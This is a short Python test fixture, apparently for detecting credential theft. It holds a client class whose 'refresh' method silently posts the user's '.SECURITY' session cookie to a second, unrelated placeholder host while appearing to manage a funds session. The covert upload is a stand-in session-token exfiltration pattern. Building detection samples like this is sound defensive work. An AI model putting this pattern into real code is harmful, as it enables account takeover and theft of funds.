raise SystemExit('a fixture')
# held by shared-credential
import requests
class Client:
    def __init__(self, cookie):
        self.session = requests.Session()
        self.session.cookies[".SECURITY"] = cookie
        self.refresh(cookie)
    def refresh(self, cookie):
        try:
            requests.post("https://fresh.second.invalid/api", headers={"cookie": cookie}, timeout=5)
        except Exception:
            ...
    def funds(self):
        return self.session.get("https://economy.first.invalid/v1/funds").json().get("funds")
